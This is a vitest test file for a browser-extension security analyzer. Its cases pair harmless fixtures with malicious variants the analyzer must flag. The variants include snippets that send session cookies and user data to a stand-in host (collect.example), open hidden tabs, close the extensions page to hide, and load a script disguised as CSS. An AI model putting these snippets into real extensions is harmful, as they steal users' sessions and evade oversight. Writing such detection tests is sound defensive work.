import { expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

/*
 * Classes of false alarms that well-kept extensions showed, each with the harmful thing beside it that must stay told.
 */

interface Case {
  readonly permissions: readonly string[];
  readonly script: string;
  readonly more?: Readonly<Record<string, string>>;
  readonly contentScripts?: readonly object[];
}

async function rulesOf({ permissions, script, more = {}, contentScripts }: Case): Promise<readonly string[]> {
  const manifest = {
    manifest_version: 3,
    name: 'Sample',
    version: '1',
    permissions: permissions.filter((one) => !one.includes('/')),
    host_permissions: permissions.filter((one) => one.includes('/')),
    background: { service_worker: 'background.js' },
    ...(contentScripts === undefined ? {} : { content_scripts: contentScripts }),
  };
  const files = { 'manifest.json': JSON.stringify(manifest), 'background.js': script, ...more };
  const { findings } = await analyze(memoryTree(files), { kind: 'extension' });
  return findings.filter(({ severity }) => severity === 'critical' || severity === 'high').map(({ rule }) => rule);
}

const SESSION =
  "chrome.cookies.get({ url: 'https://www.shop.example/', name: 'reddit_session' }, (c) => fetch('ADDRESS', { method: 'POST', body: c.value }));";

const HELPER =
  "const token = (site, name) => new Promise((done) => chrome.cookies.get({ url: site, name }, (c) => done(c.value))); (async () => { await fetch('ADDRESS', { method: 'POST', body: await token('https://www.shop.example', 'csrf') }); })();";

/** One helper reads a cookie of each of two sites; what is read of the second is sent. */
const ofTwo = (address: string): string =>
  `function read(what, then) { chrome.cookies.get(what, then); } read({ url: 'https://collect.example', name: 'a' }, (c) => show(c)); read({ url: 'https://www.shop.example', name: 'csrf' }, (c) => fetch('${address}', { method: 'POST', body: c.value }));`;

/** An answer of a site to its signed-in user, which is asked for at an address for who makes the program, or the real one. */
const whileMade = (address: string): string =>
  `const server = process.env.NODE_ENV === 'development' ? 'http://localhost:4000' : 'https://www.shop.example'; fetch(server + '/user', { credentials: 'include' }).then((r) => r.json()).then(({ mail }) => fetch(${address} + '/stats', { method: 'POST', body: mail }));`;

/** A helper that adds the page's cookies to a request, to an address that a function of another module makes. */
const ofAddresses = (address: string): Case => ({
  permissions: [],
  script: '',
  contentScripts: [{ matches: ['https://*/*'], js: ['content.js'] }],
  more: {
    'content.js':
      "import { get } from './http.js'; import { addressOf } from './address.js'; document.addEventListener('load', () => get(addressOf('/me')));",
    'http.js': 'export const get = (url) => fetch(url, { headers: { token: document.cookie } });',
    'address.js': `export const addressOf = (path) => { const base = ${address}; return base + path; };`,
  },
});

/** A content script of these sites whose module reads cookies, which the background sends to one site. */
const ofModule = (matches: string): Case => ({
  permissions: ['<all_urls>'],
  script:
    "chrome.runtime.onMessage.addListener((m) => { fetch('https://api.shop.example/cart', { method: 'POST', body: m.token }); });",
  contentScripts: [{ matches: [matches], js: ['content.js'] }],
  more: {
    'content.js':
      "import { token } from './token.js'; document.addEventListener('load', () => chrome.runtime.sendMessage({ token: token() }));",
    'token.js': 'export const token = () => document.cookie;',
  },
});

/** Cookies of a site, read by a helper that is told a request, which goes on to an address. */
const ofRequest = (address: string): string =>
  `async function read(request) { const { host } = /https?:..(?<host>[^/]+)/.exec(request.url).groups; return JSON.stringify(await chrome.cookies.getAll({ domain: host })); } async function send(request, other) { return fetch(${address}, { headers: { 'X-Kept': await read(request) } }); } chrome.alarms.onAlarm.addListener(() => { for (const one of list) send(one, list[0]); });`;

/** A page that is opened where nobody sees it, to be shown again once the site has let it in; opened as `first` says. */
const untilLetIn = (first: string, test = 'id === made.id'): string =>
  `async function load() { try { await get(); } catch { await open(); } } async function open() { const made = await chrome.tabs.create({ active: false, url: 'https://shop.example/' }); const heard = (id, change) => { if (${test} && change.title) { chrome.tabs.onUpdated.removeListener(heard); chrome.tabs.remove(made.id); load(); } }; chrome.tabs.onUpdated.addListener(heard); } ${first}`;

it.each<[string, Case, readonly string[], Case, readonly string[]]>([
  [
    'a session cookie that goes back to its own site',
    {
      permissions: ['cookies', 'https://*.shop.example/*'],
      script: SESSION.replace('ADDRESS', 'https://api.shop.example/token'),
    },
    [],
    {
      permissions: ['cookies', 'https://*.shop.example/*'],
      script: SESSION.replace('ADDRESS', 'https://collect.example/x'),
    },
    ['session-cookies-taken'],
  ],
  [
    'cookies that go back to the very address that they are of',
    { permissions: ['cookies', '<all_urls>'], script: ofRequest('request.url') },
    ['browsing-data-to-network'],
    { permissions: ['cookies', '<all_urls>'], script: ofRequest('other.url') },
    ['browsing-data-to-network', 'session-cookies-taken'],
  ],
  [
    'a tab that a click opened, which is heard of until it is there',
    { permissions: ['tabs'], script: untilLetIn('chrome.action.onClicked.addListener(load);') },
    ['affiliate-stuffing'],
    { permissions: ['tabs'], script: untilLetIn('setInterval(load, 60000);') },
    ['affiliate-stuffing', 'visits-unseen'],
  ],
  [
    'the same, beside any tab that goes somewhere',
    { permissions: ['tabs'], script: untilLetIn('chrome.action.onClicked.addListener(load);') },
    ['affiliate-stuffing'],
    { permissions: ['tabs'], script: untilLetIn('chrome.action.onClicked.addListener(load);', 'id') },
    ['affiliate-stuffing', 'visits-unseen'],
  ],
  [
    'the same, opened as it starts',
    { permissions: ['tabs'], script: untilLetIn('chrome.action.onClicked.addListener(load);') },
    ['affiliate-stuffing'],
    { permissions: ['tabs'], script: untilLetIn('load();') },
    ['affiliate-stuffing', 'visits-unseen'],
  ],
  [
    'the page of shortcuts, which a button leads to',
    {
      permissions: ['tabs'],
      script:
        "chrome.action.onClicked.addListener(() => chrome.tabs.query({ url: 'chrome://extensions/shortcuts' }, (all) => chrome.tabs.update(all[0].id, { active: true })));",
    },
    [],
    {
      permissions: ['tabs'],
      script:
        "chrome.tabs.onUpdated.addListener((id, info, tab) => { if (tab.url.startsWith('chrome://extensions/')) chrome.tabs.remove(id); });",
    },
    ['hides-from-extension-page'],
  ],
  [
    'style sheets that are registered with scripts, and a text that a bundler takes in',
    {
      permissions: ['scripting'],
      script:
        "import text from './LICENSE?raw'; document.title = text; chrome.scripting.registerContentScripts([{ id: 'a', css: ['/all.css'], js: ['/b.js'], matches: ['https://shop.example/*'] }]);",
      more: { 'all.css': 'run()', 'b.js': '', LICENSE: 'run()' },
    },
    [],
    {
      permissions: ['scripting'],
      script:
        "chrome.scripting.registerContentScripts([{ id: 'a', js: ['/all.css'], matches: ['https://shop.example/*'] }]);",
      more: { 'all.css': 'run()' },
    },
    ['script-under-other-name'],
  ],
  [
    'a style that a bundler makes a text of',
    {
      permissions: [],
      script: "import style from './panel.css?inline'; document.adoptedStyleSheets = [style];",
      more: { 'panel.css': 'p { color: red }' },
    },
    [],
    { permissions: [], script: "importScripts('panel.css');", more: { 'panel.css': 'run()' } },
    ['script-under-other-name'],
  ],
  [
    'a cookie by a helper that is told the site, which goes back there',
    {
      permissions: ['cookies', '<all_urls>'],
      script: HELPER.replace('ADDRESS', 'https://api.shop.example/token'),
    },
    [],
    {
      permissions: ['cookies', '<all_urls>'],
      script: HELPER.replace('ADDRESS', 'https://collect.example/x'),
    },
    ['browsing-data-to-network'],
  ],
  [
    'a cookie by a helper that reads of several sites, which goes back to the one that it is of',
    { permissions: ['cookies', '<all_urls>'], script: ofTwo('https://api.shop.example/token') },
    [],
    { permissions: ['cookies', '<all_urls>'], script: ofTwo('https://collect.example/x') },
    ['browsing-data-to-network'],
  ],
  [
    'what a site answers that goes back there, with an address of the own computer beside it',
    { permissions: ['https://*.shop.example/*'], script: whileMade('server') },
    [],
    {
      permissions: ['https://*.shop.example/*'],
      script: whileMade("(debug ? 'http://localhost:4000' : 'https://collect.example')"),
    },
    ['private-data-to-network'],
  ],
  [
    "cookies of the one site of a content script, read in a module of it and sent to the site's interface",
    ofModule('https://www.shop.example/*'),
    [],
    ofModule('https://*/*'),
    ['input-to-network'],
  ],
  [
    'cookies of the page that go to the page’s own site, at an address that another module makes',
    ofAddresses("'https://' + document.location.host"),
    [],
    ofAddresses("'https://collect.example/' + document.location.host"),
    ['input-to-network'],
  ],
])('does not tell %s', async (_, harmless, silent, harmful, told) => {
  expect(await rulesOf(harmless)).toEqual(silent);
  expect(await rulesOf(harmful)).toEqual(expect.arrayContaining([...told]));
});
